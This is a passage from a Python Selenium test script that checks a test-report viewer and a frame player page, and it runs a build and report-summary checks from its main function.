            ".filter(e => { const r = e.getBoundingClientRect(); return r.bottom > 0 && r.top < innerHeight; });"
            " return n.length ? n[n.length - 1].textContent : null")
        last = wait_until(lambda: last_in_view() == want) and want or last_in_view()
        t.check(f"{name} checks: the end of the list scrolls into view", last == want, (last, want))
        driver.find_element(By.CSS_SELECTOR, 'button[data-filter="failed"]').click()
        shown = wait_until(lambda: (lambda text: text if text.startswith("Showing ") and not text.startswith(
            f"Showing {checks} of") else None)(driver.find_element(By.CLASS_NAME, "shown").text))
        t.check(f"{name} checks: the failed filter narrows the list", shown, driver.find_element(By.CLASS_NAME, "shown").text)
        logs = [entry for entry in driver.get_log("browser") if entry["level"] == "SEVERE"]
        t.check(f"no console errors with {name} checks", not logs, logs[:3])


def test_player_page(driver, t, screenshots):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys
    driver.get((WORK / "frames" / "index.html").as_uri())
    player = driver.find_element(By.CLASS_NAME, "player")
    frame = lambda: int(player.get_attribute("data-frame"))
    t.check("player page has one frame view", len(player.find_elements(By.CSS_SELECTOR, ".frames img")) == 1)
    player.find_element(By.CSS_SELECTOR, "button.next").click()
    player.send_keys(Keys.ARROW_RIGHT)
    t.check("player page steps by button and key", frame() == 2, frame())
    player.send_keys(Keys.END)
    count = len(json.loads((WORK / "frames" / "manifest.json").read_text())["frames"])
    t.check("End goes to the last frame", frame() == count - 1, (frame(), count))
    manifest = json.loads((WORK / "frames" / "manifest.json").read_text())
    header = driver.find_element(By.CSS_SELECTOR, "header .command").text
    # The last frame is the first at or after rest, so its time is later than the motion's duration.
    t.check("the player page states the manifest's duration",
            header.endswith(f"· {manifest['duration']:.3f} s") and f"{manifest['frames'][-1]['t']:.3f}" not in header,
            (header, manifest["duration"]))
    player.send_keys(Keys.HOME)
    for _ in range(6):
        player.send_keys(Keys.ARROW_RIGHT)
    # The new frame decodes asynchronously.
    natural = wait_until(lambda: driver.execute_script("const i = arguments[0].querySelector('.frames img'); "
                                                       "return i.complete ? i.naturalWidth : null", player)) or 0
    t.check("player page frame loads", natural == 390, natural)
    if screenshots:
        driver.execute_script("document.activeElement.blur()")
        save_page(driver, ROOT / "docs" / "images" / "player-frames.png", 820)


def main():
    ensure_venv(__file__)
    screenshots = "--no-screenshots" not in sys.argv
    started = time.monotonic()
    filmstrip = build()
    built = time.monotonic()
    summary, bad_frames = make_sample(filmstrip)
    real_summary = run_fixture_suite(filmstrip)
    print(f"build {built - started:.0f} s, sample {time.monotonic() - built:.0f} s")
    t = Checks()
    t.check("merge-reports summary", summary == "3 passed, 3 failed, 1 recorded, 1 error", summary)
    t.check("filmstrip test summary", real_summary == "7 passed, 2 failed", real_summary)
    junit = ET.parse(WORK / "report" / "junit.xml").getroot()
    t.check("JUnit counts", (junit.get("tests"), junit.get("failures"), junit.get("errors")) == ("8", "4", "1"),
            junit.attrib)
    t.check("JUnit has one testsuite per scene file",
            [s.get("name") for s in junit.iter("testsuite")] == ["scenes/banner.json", "scenes/paging.json", "scenes/slider.json"])
    driver = browser()
    try:
        for name, test in [("report", lambda: test_report(driver, t, bad_frames, screenshots)),
                           ("report review", lambda: test_report_review(driver, t)),
                           ("report URL", lambda: test_report_url(driver, t)),
                           ("unused references", lambda: test_deleted(driver, t)),
                           ("odd results", lambda: test_odd_results(driver, t)),
                           ("player page", lambda: test_player_page(driver, t, screenshots)),
                           ("narrow screen", lambda: test_narrow_screen(driver, t, screenshots)),
                           ("large results", lambda: "--no-scale" in sys.argv or test_scale(driver, t, filmstrip)),
                           ("filmstrip test report", lambda: test_fixture_report(driver, t))]:
            try:
                test()
            except Exception as error:  # a missing element fails the check, not the whole run
                t.check(f"{name} ran to the end", False, repr(error)[:500])
            logs = [entry for entry in driver.get_log("browser") if entry["level"] == "SEVERE"]
            t.check(f"no console errors on the {name}", not logs, logs)
    finally:
        driver.quit()
    print(f"report: {(WORK / 'report' / 'index.html').as_uri()}  ({time.monotonic() - started:.0f} s)")
    if "--keep" not in sys.argv and t.failed == 0:
        shutil.rmtree(WORK, ignore_errors=True)
    print(f"{t.passed} passed, {t.failed} failed")
    sys.exit(1 if t.failed else 0)


if __name__ == "__main__":
    main()
